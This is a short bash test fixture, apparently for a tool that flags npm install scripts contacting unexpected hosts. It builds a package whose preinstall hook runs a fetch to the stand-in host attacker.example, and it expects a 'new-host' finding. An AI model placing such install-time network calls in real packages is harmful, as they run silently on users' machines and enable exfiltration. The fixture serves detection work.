#!/bin/bash
# A preinstall that makes one request to somebody.
#: tool npm
#: description a preinstall script makes a request to a host that is no registry
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve attacker.example=203.0.113.10
#: finding new-host
#: attack exfiltration simulator of GitHub Actions Goat (2023)
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "compile", "version": "1.0.0", "scripts": {"preinstall": "node compile.js"}}' > package.json
  cat > compile.js <<'END'
fetch('http://attacker.example/').catch(() => {});
END
  tar czf ~/compile.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/compile.tgz
